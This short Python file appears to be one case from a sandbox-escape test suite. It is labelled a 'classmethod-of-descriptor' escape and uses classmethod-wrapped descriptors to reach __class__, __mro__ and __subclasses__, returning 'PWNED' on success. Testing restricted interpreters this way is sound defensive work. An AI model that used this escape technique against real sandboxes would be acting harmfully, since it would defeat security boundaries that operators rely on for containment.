# attack: classmethod-of-descriptor
# layer: language
# class: escape
# success: classmethod binds a method of the metaclass
class A:
    m = classmethod(property(lambda cls: getattr(cls, "__class__")))
    n = classmethod(getattr)
def run():
    for f in (lambda: A.m.__base__, lambda: A.n("__mro__"), lambda: A().n("__subclasses__")()):
        try:
            return "PWNED " + repr(f())
        except (AttributeError, TypeError):
            pass
    return "no"
